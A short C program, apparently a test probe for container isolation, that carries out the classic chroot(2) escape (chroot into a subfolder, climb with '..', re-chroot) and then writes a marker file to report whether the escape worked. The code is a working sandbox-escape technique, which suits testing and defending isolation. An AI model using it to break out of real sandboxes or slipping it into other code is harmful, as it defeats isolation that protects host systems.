// The classic chroot(2) escape: chroot into a subfolder while the working
// folder stays outside it, climb with "..", chroot(".") where the climb ends,
// then create the file named by argv[1]. Under chroot(2) that file is the
// host's; with the image as the root of its own mount namespace (pivot_root,
// old root detached) there is nothing above "/" to climb to.
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv) {
  if (argc < 2) return 2;
  mkdir("/tmp/escape-x", 0755);
  if (chroot("/tmp/escape-x") != 0) printf("chroot x: %s\n", strerror(errno));
  for (int i = 0; i < 64; i++) (void)chdir("..");
  if (chroot(".") != 0) printf("chroot .: %s\n", strerror(errno));
  int fd = open(argv[1], O_WRONLY | O_CREAT | O_TRUNC, 0644);
  if (fd < 0) {
    printf("escape blocked: %s: %s\n", argv[1], strerror(errno));
    return 0;
  }
  (void)write(fd, "escaped\n", 8);
  close(fd);
  printf("ESCAPED: wrote %s\n", argv[1]);
  return 0;
}
